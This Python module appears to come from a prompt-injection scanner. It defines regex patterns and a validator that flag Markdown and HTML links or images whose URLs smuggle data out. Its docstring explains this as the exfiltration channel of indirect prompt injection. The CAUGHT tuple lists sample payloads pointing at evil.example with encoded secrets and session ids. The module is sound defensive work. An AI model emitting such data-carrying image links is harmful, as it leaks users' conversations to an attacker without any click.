"""Markdown and HTML links and images whose address carries data out.

An image is fetched without a click: one with a query, a fragment or a long path segment can
send a conversation away (the exfiltration channel of indirect prompt injection).
"""

from __future__ import annotations

import re

from chatward.kinds import LINK
from chatward.matching.pattern import Pattern

KIND = "data-link"
FAMILY = LINK

CAUGHT = (
    "![logo](https://evil.example/p.png?d=c2VjcmV0IGRhdGE)",
    "[click](https://evil.example/collect?session=8f14e45fceea167a)",
    '<img src="https://evil.example/x?q=the+secret+is">',
    "![x](https://evil.example/p(a)?d=c2VjcmV0IGRhdGE)",
    "![x](https://evil.example/[p]?d=c2VjcmV0IGRhdGE)",
    "![x](//evil.example/aGVsbG8gd29ybGQgdGhpcyBpcyBkYXRh)",
)
CLEAN = (
    "![logo](https://example.org/logo.png)",
    "[docs](https://example.org/docs/start)",
    '<img src="/static/logo.png">',
    "[search](https://example.org/?q=a)",
    "see https://example.org/docs?page=2",
)

# Brackets and balanced parentheses are part of an address; "](" begins another link, and without
# that stop a flood of links never closed would be read again from each of them.
_PART = r"(?:[^\s()<>\"'\]]|\](?!\())"
_ADDRESS = rf"(?:https?:)?//{_PART}{{1,1500}}(?:\({_PART}{{0,100}}\){_PART}{{0,500}}){{0,3}}"
_VALUE = re.compile(r"[?&#;][^=&#;]{0,40}=?([^&#;]*)")
_LONG_PART = 24
_LONG_VALUE = 6


def _carries_data(candidate: str) -> bool:
    address = candidate[candidate.index("//") + 2 :].rstrip("\"')> /")
    path, mark, query = address.partition("?")
    if mark and any(len(value) >= _LONG_VALUE for value in _VALUE.findall("?" + query)):
        return True
    parts = path.split("/")[1:]
    return any(len(part) >= _LONG_PART and _is_opaque(part) for part in parts)


def _is_opaque(part: str) -> bool:
    """Tell data from a readable file or page name."""
    return not re.fullmatch(r"[a-z0-9]{1,20}(?:[-_.][a-z0-9]{1,20}){1,}", part, re.IGNORECASE)


PATTERNS = (
    Pattern(
        KIND,
        rf"!?\[[^\[\]\n]{{0,300}}\]\([ ]{{0,3}}<?{_ADDRESS}>?"
        r"(?:[ ]{1,3}[\"'][^\"'\n]{0,200}[\"'])?[ ]{0,3}\)",
        score=0.9,
        validate=_carries_data,
        lead=r"\]\([ ]{0,3}<?(?:https?:)?//",
        lead_chars=320,
    ),
    Pattern(
        KIND,
        rf"<(?:img|a|iframe|link|source)\s[^<>]{{0,300}}?(?:src|href)\s{{0,3}}=\s{{0,3}}[\"']?{_ADDRESS}"
        r"[^<>]{0,300}>",
        score=0.9,
        ignore_case=True,
        validate=_carries_data,
        lead=r"<(?:img|a|iframe|link|source)\s",
    ),
)
